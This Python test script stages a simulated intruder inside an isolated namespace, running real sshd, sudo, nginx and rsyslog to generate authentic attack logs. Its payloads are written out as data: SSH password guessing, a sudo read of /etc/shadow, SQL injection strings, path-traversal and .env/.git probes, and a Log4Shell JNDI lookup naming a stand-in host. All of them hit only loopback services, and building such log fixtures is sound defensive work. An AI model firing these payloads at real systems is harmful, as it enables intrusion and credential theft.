"""An intruder's hour on this machine, by the real programs: sshd, sudo, nginx and rsyslog, as Debian has them, log what a
guesser of passwords, a user without rights and a scanner of websites do to them.

Usage: unshare --mount --propagation private python3 intrude.py FOLDER [--have]
FOLDER gets auth.log and access.log. Accounts, PAM, /run and /dev/log are of this namespace only. --have: only see to it that
there is an sshd, 3 when there is none to be had.
"""
import glob
import os
import socket
import subprocess
import sys
import time
import urllib.parse

TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(TOP, "tests"))
from ports import free_port  # noqa: E402

UNPACKED = os.path.join(TOP, "build/openssh")
PASSWORD = "Mật-khẩu-thật-77"
USER, USER_ID = "ketoan", 64377
GUESSES = ["123456", "ketoan", "Ketoan@123", "abc123"] * 3
QUERIES = ["1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1'; DROP TABLE ho_so;--", "1' AND SLEEP(5)--"] * 3
PATHS = ["/../../../../etc/passwd", "/.env", "/.git/config", "/wp-content/uploads/2026/11/shell.php"]
PAM = "auth required pam_unix.so nodelay\naccount required pam_unix.so\nsession required pam_unix.so\n"
SSHD = """Port {port}
ListenAddress 127.0.0.1
HostKey {folder}/host_key
PidFile none
UsePAM yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
MaxAuthTries 3
"""
RSYSLOG = """module(load="imuxsock")
template(name="old" type="string" string="%TIMESTAMP% may-chu-mot-cua %syslogtag%%msg:::sp-if-no-1st-sp%%msg:::drop-last-lf%\\n")
auth,authpriv.* action(type="omfile" file="{folder}/auth.log" template="old")
"""
NGINX = """daemon off;
pid {folder}/nginx.pid;
error_log {folder}/nginx-error.log;
events {{}}
http {{
    access_log {folder}/access.log combined;
    client_body_temp_path {folder}/nginx-body;
    proxy_temp_path {folder}/nginx-proxy;
    fastcgi_temp_path {folder}/nginx-fastcgi;
    uwsgi_temp_path {folder}/nginx-uwsgi;
    scgi_temp_path {folder}/nginx-scgi;
    server {{ listen 127.0.0.1:{port}; location / {{ return 404; }} }}
}}
"""


def must(*words, **more):
    return subprocess.run(words, check=True, capture_output=True, timeout=60, **more)


def wait_for(condition, what, seconds=20):
    end = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > end:
            raise TimeoutError(what)
        time.sleep(0.02)


def ssh_server():
    """The server is unpacked where it is not installed: a test opens nobody's machine. Its tree; "" where /usr has it; None."""
    if os.path.exists("/usr/sbin/sshd"):
        return ""
    root = f"{UNPACKED}/root"
    if not os.path.exists(f"{root}/usr/sbin/sshd"):
        os.makedirs(f"{UNPACKED}/debs/partial", exist_ok=True)
        subprocess.run(["apt-get", "install", "-y", "-qq", "--download-only", "--no-install-recommends", "-o",
                        f"Dir::Cache::archives={UNPACKED}/debs", "openssh-server"], capture_output=True, timeout=120)
        for deb in glob.glob(f"{UNPACKED}/debs/*.deb"):
            must("dpkg-deb", "-x", deb, root)
    return root if os.path.exists(f"{root}/usr/sbin/sshd") else None


def put(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    os.chmod(path, mode)


def append(path, source, line, mode):
    """A copy of an account file with one line more."""
    with open(source, encoding="utf-8") as file:
        put(path, file.read() + line, mode)


def furnish(folder, unpacked):
    """In this namespace: one user, PAM that does not wait after a failure, /dev/log and /run of its own."""
    etc, dev = f"{folder}/etc", f"{folder}/dev"
    hashed = must("openssl", "passwd", "-6", PASSWORD).stdout.decode().strip()
    append(f"{etc}/passwd", "/etc/passwd", f"{USER}:x:{USER_ID}:{USER_ID}::/:/bin/sh\nsshd:x:64378:65534::/run/sshd:/usr/sbin/nologin\n", 0o644)
    append(f"{etc}/shadow", "/etc/shadow", f"{USER}:{hashed}:20000:0:99999:7:::\n", 0o640)
    append(f"{etc}/group", "/etc/group", f"{USER}:x:{USER_ID}:\n", 0o644)
    for service in ("sshd", "sudo"):
        put(f"{etc}/pam.d/{service}", PAM)
    must("mount", "-t", "overlay", "overlay", "-o", f"ro,lowerdir={etc}:/etc", "/etc")
    if unpacked:
        must("mount", "-t", "overlay", "overlay", "-o", f"ro,lowerdir={unpacked}/usr:/usr", "/usr")
    os.makedirs(dev)
    must("mount", "-t", "tmpfs", "tmpfs", dev)
    for name in ("null", "zero", "full", "random", "urandom", "tty"):
        put(f"{dev}/{name}", "")
        must("mount", "--bind", f"/dev/{name}", f"{dev}/{name}")
    os.symlink("/proc/self/fd", f"{dev}/fd")
    must("mount", "--rbind", dev, "/dev")
    must("mount", "-t", "tmpfs", "-o", "mode=755", "tmpfs", "/run")
    os.mkdir("/run/sshd", 0o755)


class Servers:
    def __init__(self, folder):
        self.folder, self.running = folder, []

    def start(self, *words):
        self.running.append(subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    def end(self):
        for server in self.running:
            server.terminate()
        for server in self.running:
            server.wait(20)

    def answers(self, port):
        with socket.socket() as one:
            return one.connect_ex(("127.0.0.1", port)) == 0


def guess(folder, port, user, passwords):
    """One connection a password, as a guessing tool makes them. Whether the last was right."""
    put(f"{folder}/askpass", '#!/bin/sh\nprintf "%s\\n" "$CANHGAC_GUESS"\n', 0o755)
    done = None
    for password in passwords:
        done = subprocess.run(["ssh", "-F", "none", "-p", str(port), "-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder}/known",
                               "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", f"{user}@127.0.0.1", "true"],
                              env={**os.environ, "SSH_ASKPASS": f"{folder}/askpass", "SSH_ASKPASS_REQUIRE": "force", "CANHGAC_GUESS": password},
                              stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
    return done.returncode == 0


def as_user(*words, say=""):
    return subprocess.run(["setpriv", f"--reuid={USER_ID}", f"--regid={USER_ID}", "--clear-groups", *words], input=say.encode(),
                          capture_output=True, timeout=60, cwd="/")


def play(folder):
    furnish(folder, ssh_server())
    servers = Servers(folder)
    ssh_port, web_port = free_port(), free_port()
    put(f"{folder}/rsyslog.conf", RSYSLOG.format(folder=folder))
    put(f"{folder}/nginx.conf", NGINX.format(folder=folder, port=web_port))
    put(f"{folder}/sshd_config", SSHD.format(folder=folder, port=ssh_port))
    must("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{folder}/host_key")
    try:
        servers.start("rsyslogd", "-n", "-f", f"{folder}/rsyslog.conf", "-i", f"{folder}/rsyslog.pid")
        wait_for(lambda: os.path.exists("/dev/log"), "/dev/log")
        servers.start("/usr/sbin/sshd", "-D", "-f", f"{folder}/sshd_config")
        servers.start("nginx", "-c", f"{folder}/nginx.conf")
        wait_for(lambda: servers.answers(ssh_port) and servers.answers(web_port), "the servers answer")
        if guess(folder, ssh_port, USER, GUESSES):
            raise RuntimeError("a wrong password was taken")
        if not guess(folder, ssh_port, USER, [PASSWORD]):
            raise RuntimeError("the right password was refused")
        for _ in range(3):
            as_user("sudo", "-k", "-S", "-p", "", "/usr/bin/id", say="sai\nsai\nsai\n")
        as_user("sudo", "-k", "-S", "-p", "", "/usr/bin/cat", "/etc/shadow", say=f"{PASSWORD}\n")
        for path in [f"/tra-cuu?so={urllib.parse.quote(query)}" for query in QUERIES] + PATHS:
            must("curl", "-s", "--path-as-is", "-o", "/dev/null", f"http://127.0.0.1:{web_port}{path}")
        must("curl", "-s", "-o", "/dev/null", "-A", "${jndi:ldap://203.0.113.5/a}", f"http://127.0.0.1:{web_port}/")
    finally:
        servers.end()


if __name__ == "__main__":
    if ssh_server() is None:
        sys.exit(3)
    if "--have" not in sys.argv:
        play(os.path.abspath(sys.argv[1]))
